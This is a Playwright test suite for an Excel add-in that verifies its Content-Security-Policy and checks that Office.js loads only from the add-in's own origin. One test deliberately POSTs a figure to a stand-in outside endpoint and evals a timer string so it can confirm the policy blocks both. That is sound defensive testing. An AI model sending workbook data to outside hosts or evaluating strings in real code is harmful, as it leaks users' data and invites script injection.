import * as fs from 'fs';
import * as path from 'path';
import type { Page } from 'playwright-core';
import { launchChromium, type LaunchedChromium } from './chromium';
import { DIST, EMPTY_WORKBOOK, jsonWorkbook, paneServer } from './paneHarness';
import { serveDirectory, type StaticServer } from './staticServer';
import { seedWorkbook } from '../support/seedWorkbook';

/**
 * The Content-Security-Policy of the production build (scripts/contentSecurityPolicy.js): every page carries
 * one; the pane, the result dialog and the help page load under it without a single violation; Office.js's
 * loader fetches its host file and strings from dist/office-js under it, for Excel on Windows, Mac and the
 * web; and the policy really blocks a request to another origin and eval. (Every other browser test also
 * fails on any violation: paneHarness turns them into page errors.)
 */
const open = paneServer();

interface Violation {
  directive: string;
  blocked: string;
  source: string;
}

/** Records securitypolicyviolation events from the first line of every document of the page. */
async function recordViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: unknown[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      w.__violations.push({ directive: e.violatedDirective, blocked: e.blockedURI, source: `${e.sourceFile}:${e.lineNumber}` });
    });
  });
  return () => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);
}

function pagesOf(dir: string, rel = ''): string[] {
  return fs.readdirSync(path.join(dir, rel), { withFileTypes: true }).flatMap((e) => {
    const r = rel ? `${rel}/${e.name}` : e.name;
    if (e.isDirectory()) return pagesOf(dir, r);
    return /\.html?$/i.test(e.name) ? [r] : [];
  });
}

describe('Content-Security-Policy (production build)', () => {
  it('is on every page webpack emits, own origin only, inline scripts by hash, no eval', () => {
    const pages = pagesOf(DIST);
    expect(pages).toEqual(expect.arrayContaining(['taskpane.html', 'result-dialog.html', 'help.html']));
    for (const p of pages) {
      const html = fs.readFileSync(path.join(DIST, p), 'utf8');
      const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1];
      expect([p, policy && policy.startsWith("default-src 'self';")]).toEqual([p, true]);
      expect(policy).not.toContain('unsafe-eval');
      expect(/script-src [^;]*unsafe-inline/.test(policy!)).toBe(false);
    }
  });

  test('the pane: every tab, a check of seed 000, and no violation', async () => {
    const s = await open(jsonWorkbook(seedWorkbook('000')));
    const { page } = s;
    for (const tab of ['模板', '校验', '填充', '说明', '帮助']) {
      await page.getByRole('tab', { name: tab }).click();
      await page.getByRole('tab', { name: tab, selected: true }).waitFor();
      await page.waitForLoadState('networkidle'); // the tab's lazily loaded chunk
    }
    await page.getByRole('tab', { name: '校验' }).click();
    await page.getByRole('button', { name: '校验', exact: true }).click();
    await page.getByRole('status').filter({ hasText: '个错误' }).first().waitFor({ timeout: 15000 });
    await page.getByRole('tab', { name: '说明' }).click();
    await page.getByRole('button', { name: '生成情况说明' }).click();
    await page.getByTestId('narrative-preview').waitFor({ timeout: 15000 });
    // paneHarness reports each violation as a console error, and Chromium logs its own refusal there too.
    expect(s.pageErrors).toEqual([]);
    expect(s.offOrigin).toEqual([]);
  });

  test('a fetch to another origin is refused by the policy (connect-src), and so is eval', async () => {
    const s = await open(EMPTY_WORKBOOK);
    const outcome = await s.page.evaluate(() =>
      fetch('https://example.org/collect', { method: 'POST', body: '2911.06' }).then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(outcome).toBe('blocked');
    // Code run by the test itself (DevTools) may eval; code the page runs may not: a timer given a string is eval.
    await s.page.evaluate(() => {
      const w = window as unknown as { setTimeout(code: string, ms: number): number };
      w.setTimeout('window.__evalRan = true', 0);
    });
    await s.page.waitForTimeout(300);
    expect(await s.page.evaluate(() => (window as unknown as { __evalRan?: boolean }).__evalRan)).toBeUndefined();
    const violations = s.pageErrors.filter((e) => e.startsWith('console: securitypolicyviolation:'));
    expect(violations).toEqual([
      expect.stringMatching(/^console: securitypolicyviolation: connect-src blocked https:\/\/example\.org\/collect /),
      expect.stringMatching(/^console: securitypolicyviolation: script-src blocked eval /),
    ]);
    expect(s.offOrigin).toEqual(['https://example.org/collect']);
  });
});

describe('Office.js under the policy (dist/office-js, no test workbook)', () => {
  let server: StaticServer;
  let browser: LaunchedChromium | null = null;
  beforeAll(async () => {
    server = await serveDirectory(DIST);
  });
  afterAll(async () => {
    await server.close();
  });
  afterEach(async () => {
    await browser?.close();
    browser = null;
  });

  /**
   * Opens a page of dist/ as Excel would, with Office's host information in the URL (_host_Info: host,
   * platform, host file version, locale), which is how office.js picks the files it loads next.
   */
  async function openAsExcel(page: string, hostInfo: string) {
    browser = await launchChromium();
    const tab = browser.context.pages()[0] ?? (await browser.context.newPage());
    const violations = await recordViolations(tab);
    const offOrigin: string[] = [];
    tab.on('request', (r) => {
      if (!r.url().startsWith(server.origin)) offOrigin.push(r.url());
    });
    const sep = page.includes('?') ? '&' : '?';
    await tab.goto(`${server.origin}/${page}${sep}_host_Info=${encodeURIComponent(hostInfo)}`);
    return { tab, violations, offOrigin };
  }

  it.each([
    ['Excel on Windows', 'Excel$Win32$16.01$zh-CN$$$$0', 'excel-win32-16.01.js'],
    ['Excel on Mac', 'Excel$Mac$16.00$zh-CN$$$$0', 'excel-mac-16.00.js'],
    ['Excel on the web', 'Excel$Web$16.00$zh-CN$$$$0', 'excel-web-16.00.js'],
  ])('%s: office.js loads its host file and strings from our origin, with no violation', async (_name, hostInfo, hostFile) => {
    for (const page of ['taskpane.html', 'result-dialog.html?result=x']) {
      const { tab, violations, offOrigin } = await openAsExcel(page, hostInfo);
      await tab.waitForFunction(
        (file) => performance.getEntriesByType('resource').some((e) => e.name.endsWith(`/office-js/${file}`)) && typeof (window as unknown as { Strings?: unknown }).Strings !== 'undefined',
        hostFile,
        { timeout: 20000 },
      );
      const loaded = await tab.evaluate(() => performance.getEntriesByType('resource').map((e) => new URL(e.name).pathname));
      expect(loaded).toEqual(expect.arrayContaining(['/office-js/office.js', `/office-js/${hostFile}`, '/office-js/zh-cn/office_strings.js']));
      expect(await violations()).toEqual([]);
      expect(offOrigin).toEqual([]);
      await browser!.close();
      browser = null;
    }
  });

  it('the help page has nothing to refuse', async () => {
    browser = await launchChromium();
    const tab = browser.context.pages()[0] ?? (await browser.context.newPage());
    const violations = await recordViolations(tab);
    await tab.goto(`${server.origin}/help.html`);
    await tab.getByRole('heading', { name: '预算公开助手' }).waitFor();
    expect(await violations()).toEqual([]);
  });
});
